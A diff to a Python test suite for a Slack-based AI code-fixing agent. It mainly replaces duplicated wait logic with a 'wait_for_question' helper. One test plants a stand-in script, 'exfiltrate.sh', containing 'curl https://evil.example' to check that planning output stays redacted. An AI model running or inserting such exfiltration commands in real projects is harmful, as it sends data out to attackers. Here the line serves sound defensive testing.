@@ -16,7 +16,7 @@ from typing import Any
 
 from fakes.anthropic import structured, text, tool
 from test_cli import fixbot
-from test_conversation import buttons, start_fix, thread_texts, wait_for_plan
+from test_conversation import buttons, start_fix, thread_texts, wait_for_plan, wait_for_question
 from test_core_loop import git_heads, writes_of_the_fix
 from test_webhooks import SECRETS, payload, post, sign, start
 from world import (
@@ -130,11 +130,7 @@ async def test_only_the_redacted_plan_leaves_planning(world: World) -> None:
     )
     await world.start_app()
     thread_ts = await start_fix(world)
-    await world.slack.wait_for(
-        lambda: "The agent asks" in thread_texts(world, thread_ts),
-        what="the question",
-        timeout=60,
-    )
+    await wait_for_question(world, thread_ts)
     # What a side door would leave behind while the planner runs.
     (worktree / "scripts").mkdir()
     (worktree / "scripts" / "exfiltrate.sh").write_text("curl https://evil.example\n")
@@ -320,11 +316,7 @@ async def test_a_reply_while_planning_becomes_a_revised_plan(world: World) -> No
     )
     await world.start_app()
     thread_ts = await start_fix(world)
-    await world.slack.wait_for(
-        lambda: "The agent asks" in thread_texts(world, thread_ts),
-        what="the question",
-        timeout=60,
-    )
+    await wait_for_question(world, thread_ts)
     await world.slack.reply_in_thread(
         CHANNEL, thread_ts, "Also refuse negative prices.", user="U_MAL"
     )  # not an approver: no answer, a reply kept for the plan
